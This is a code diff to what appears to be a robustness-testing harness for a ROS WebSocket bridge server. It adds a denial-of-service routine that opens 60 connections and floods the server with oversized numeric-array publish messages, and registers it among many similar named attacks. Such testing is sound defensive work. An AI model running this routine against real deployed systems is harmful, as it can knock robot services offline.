@@ -279,6 +279,21 @@ def whole_at_once(attacker: Attacker) -> None:
         thread.join()
 
 
+def lists_at_once(attacker: Attacker) -> None:
+    """Whole messages that take long to be read, over as many connections as an address may have."""
+    numbers = b"1," * (LARGEST // 2 - 100)
+    text = b'{"op":"publish","topic":"/a","type":"std_msgs/Int16MultiArray","msg":{"data":[%s1]}}' % numbers
+    message = frame(TEXT, text, key=bytes(4))
+    many = [Attacker(attacker.port) for _ in range(60)]
+    _held.extend(many)
+    over = time.monotonic() + 4 * SECONDS
+    threads = [threading.Thread(target=each.send_raw, args=(message * 2, over), daemon=True) for each in many]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+
+
 def cut_with_a_backlog(attacker: Attacker) -> None:
     """Many connections, of which each has large messages waiting for their turn when it is cut."""
     wants = b"Sec-WebSocket-Extensions: permessage-deflate; client_no_context_takeover"
@@ -951,7 +966,7 @@ ATTACKS: Final[Mapping[str, Callable[[Attacker], None]]] = {
         throttled_queue, endless_depth, latched_topics, lingering_publishers, endless_goals, unanswered_calls,
         long_ids, long_goal_ids, long_names_to_hear, long_names_to_offer, long_names_of_services,
         long_questions, unread_answers, half_messages, pieces_of_a_frame, inflated_at_once,
-        whole_at_once, cut_with_a_backlog, blanks, header_at_the_end,
+        whole_at_once, lists_at_once, cut_with_a_backlog, blanks, header_at_the_end,
         half_bodies, forms_of_what_is_kept, feedback_flood,
         long_lists_of_numbers, small_typed_arrays,
         fragments_left_open, spellings, rosapi_flood, many_in_a_frame, smallest_pieces, colliding_keys,
